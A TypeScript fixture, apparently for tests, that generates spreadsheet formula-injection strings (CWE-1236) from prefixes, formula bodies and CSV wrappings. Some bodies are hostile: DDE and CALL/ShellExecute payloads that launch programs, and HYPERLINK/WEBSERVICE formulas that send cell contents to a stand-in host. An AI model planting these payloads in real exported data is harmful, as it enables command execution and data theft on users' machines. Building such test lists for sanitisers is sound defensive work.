/** Texts that a spreadsheet program may take for a formula: as reports of injections have them (CWE-1236). */

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '=+',
  '=-',
  '=@',
  '+=',
  '-=',
  "='",
  '="',
  '＝',
  '＋',
  '－',
  '＠',
  '\0=',
]

const bodies = [
  '1+1',
  '2*3',
  'SUM(1;2)',
  'SUM(1,2)',
  'SOMA(1;2)',
  'A1',
  '$A$1:$B$2',
  'HYPERLINK("http://example.com/?"&A1;"clique")',
  'HYPERLINK("http://example.com","x")',
  'WEBSERVICE("http://example.com/"&B2)',
  "cmd|'/C calc'!A0",
  "MSEXCEL|'\\..\\..\\Windows\\System32\\calc.exe'!''",
  'DDE("cmd";"/C calc";"x")',
  'IMPORTXML("http://example.com";"//a")',
  'INDIRECT("A"&1)',
  'RAND()',
  'NOW()',
  'IF(1=1;"sim";"não")',
  'CONCATENATE("a";"b")',
  'EXEC("calc")',
  'CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc","","",5)',
  '{1,2;3,4}',
  '1E3',
  '55 11 98765-4321',
  'R$ 10,00',
  '10%',
  'TRUE()',
  '"texto"',
  "'aspas'",
  '-1',
]

/** Other places than the first where a line may be taken apart wrongly. */
const wraps = [
  (text: string) => text,
  (text: string) => `${text}\n${text}`,
  (text: string) => `"${text}"`,
  (text: string) => `;${text}`,
  (text: string) => `a";${text}`,
  (text: string) => `a",${text}`,
  (text: string) => ` ${text}`,
]

export const payloads: readonly string[] = [
  ...new Set(wraps.flatMap((wrap) => starts.flatMap((start) => bodies.map((body) => wrap(start + body))))),
]
